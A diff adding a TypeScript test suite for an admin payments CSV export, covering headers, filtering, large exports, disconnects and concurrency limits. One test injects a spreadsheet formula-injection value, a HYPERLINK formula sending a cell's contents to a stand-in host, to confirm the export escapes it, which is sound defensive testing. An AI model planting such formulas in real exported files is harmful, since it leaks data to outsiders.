@@ -1,0 +1,140 @@
+import { once } from 'node:events';
+import { get } from 'node:http';
+import { text } from 'node:stream/consumers';
+import { eventually } from '@evenkeel/platform/testing';
+import { noon, Reporting, TOKEN } from '../reporting.fixture';
+import { aPayment, publishedOf, WALLET } from '../story.fixture';
+import { PAYMENT_TITLES } from './export-payments';
+
+let reporting: Reporting;
+beforeAll(async () => {
+  reporting = await Reporting.start();
+});
+afterAll(() => reporting.close());
+beforeEach(() => reporting.forget());
+
+const PATH = '/v1/admin/revenue/payments.csv';
+const linesOf = (text: string) => text.split('\r\n').slice(0, -1);
+const query = <Row>(sql: string, values: unknown[] = []) => reporting.database.dataSource.query<Row[]>(sql, values);
+
+/** Connections that an export holds. */
+async function exportsInDatabase(): Promise<number> {
+  const rows = await query(
+    `SELECT FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()
+       AND (query LIKE 'FETCH %' OR query LIKE 'DECLARE %') AND state <> 'idle'`,
+  );
+  return rows.length;
+}
+
+/** More rows than fit into the buffers between a database and a reader who does not read. */
+async function manyPayments(count: number): Promise<void> {
+  await query(`SELECT add_payments_month('2026-02-01')`);
+  await query(
+    `INSERT INTO payments (id, wallet, endpoint, amount_micros, chain_id, asset, status, verified_at, served,
+       attributed_cost_micros, request_id)
+     SELECT gen_random_uuid(), $1, '/agent/v1/habits/analyze', 50000, 8453, $1, 'settled',
+       timestamptz '2026-02-10T00:00:00Z' + n * interval '1 millisecond', false, 400, 'request-' || n
+     FROM generate_series(1, $2::integer) AS n`,
+    [WALLET, count],
+  );
+}
+
+describe('payments as CSV', () => {
+  it('are a file with a title for each field', async () => {
+    const payment = aPayment({ tier: 'tier_1', rebateMicros: 2_500 });
+    await reporting.publish(...publishedOf([payment]));
+    const { status, headers, ...file } = await reporting.read('payments.csv?days=7');
+    expect(status).toBe(200);
+    expect(Object.fromEntries(headers)).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8; header=present',
+      'content-disposition': 'attachment; filename="payments-2026-02-04-2026-02-10.csv"',
+      'cache-control': 'no-store',
+      'x-as-of': noon.toISOString(),
+      'x-lag-seconds': expect.stringMatching(/^\d+(\.\d)?$/),
+    });
+    expect(linesOf(file.text)).toEqual([
+      'id,verified_at,endpoint,amount_usd,amount_atomic,payer,network,asset,transaction_hash,status,settled_at,' +
+        'rebate_accrued_usd,request_id',
+      `${payment.id},2026-02-10T11:58:00.120Z,/agent/v1/habits/analyze,0.050000,50000,` +
+        '0x857b06519E91e3A54538791bDbb0E22373e36b66,eip155:8453,0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913,' +
+        `0x${'7'.repeat(64)},settled,2026-02-11T12:58:00.120Z,0.002500,request-${payment.id}`,
+    ]);
+  });
+
+  it('are those of the requested days and status, newest first', async () => {
+    const days = ['2026-02-03T23:59:59.999Z', '2026-02-04T00:00:00.000Z', '2026-02-10T23:59:59.999Z'];
+    const [tooOld, oldest, newest] = days.map((text) => aPayment({ verifiedAt: new Date(text) }));
+    const open = aPayment({ states: ['settlement_pending'] });
+    await reporting.publish(...publishedOf([tooOld!, oldest!, newest!, open]));
+    const ids = async (search: string) =>
+      linesOf((await reporting.read(`payments.csv${search}`)).text)
+        .slice(1)
+        .map((line) => line.slice(0, 36));
+    expect(await ids('?days=7')).toEqual([newest!.id, open.id, oldest!.id]);
+    expect(await ids('?days=7&status=settlement_pending')).toEqual([open.id]);
+    expect(await ids('?days=365')).toHaveLength(4);
+  });
+
+  it('run nothing in a spreadsheet, whatever the request id of a caller', async () => {
+    const [event] = publishedOf([aPayment()]);
+    const requestId = '=HYPERLINK("http://x.example?"&A1,"open")';
+    await reporting.publish({ ...event!, data: { ...event!.data, requestId } });
+    const file = await reporting.read('payments.csv');
+    expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")"\r\n`);
+  });
+
+  it('are all there when there are many', async () => {
+    await manyPayments(3_210);
+    const lines = linesOf((await reporting.read('payments.csv')).text);
+    expect(lines).toHaveLength(3_211);
+    expect(new Set(lines.map((line) => line.split(',')[0])).size).toBe(3_211);
+    for (const line of lines) expect(line.split(',')).toHaveLength(PAYMENT_TITLES.length);
+  });
+});
+
+describe('a reader', () => {
+  const open = async () => {
+    const request = get(reporting.running.url + PATH, { headers: { 'x-admin-token': TOKEN } });
+    request.on('error', () => undefined);
+    const [response] = (await once(request, 'response')) as [import('node:http').IncomingMessage];
+    response.on('error', () => undefined);
+    return { request, response };
+  };
+
+  it('ends the query by going away', async () => {
+    await manyPayments(30_000);
+    const { request, response } = await open();
+    response.pause();
+    await eventually(async () => expect(await exportsInDatabase()).toBe(1));
+    request.destroy();
+    await eventually(async () => expect(await exportsInDatabase()).toBe(0));
+  });
+
+  it('gets an error when the database ends its query, and other readers go on', async () => {
+    await manyPayments(30_000);
+    const { response } = await open();
+    response.pause();
+    await eventually(async () => expect(await exportsInDatabase()).toBe(1));
+    await query(
+      `SELECT pg_terminate_backend(pid) FROM pg_stat_activity
+       WHERE datname = current_database() AND query LIKE 'FETCH %' AND state <> 'idle'`,
+    );
+    await expect(text(response)).rejects.toThrow('aborted');
+    await eventually(async () => expect((await reporting.read('payments.csv')).status).toBe(200));
+  });
+
+  it('waits when two others are reading, until one of them has finished', async () => {
+    await manyPayments(30_000);
+    const readers = [await open(), await open()];
+    for (const { response } of readers) response.pause();
+    const { status, headers, body } = await reporting.read('payments.csv');
+    expect([status, body.error, body.details, headers.get('retry-after')]).toEqual([
+      429,
+      'rate_limited',
+      { scope: 'concurrency' },
+      '5',
+    ]);
+    for (const { request } of readers) request.destroy();
+    await eventually(async () => expect((await reporting.read('payments.csv?days=1')).status).toBe(200));
+  });
+});
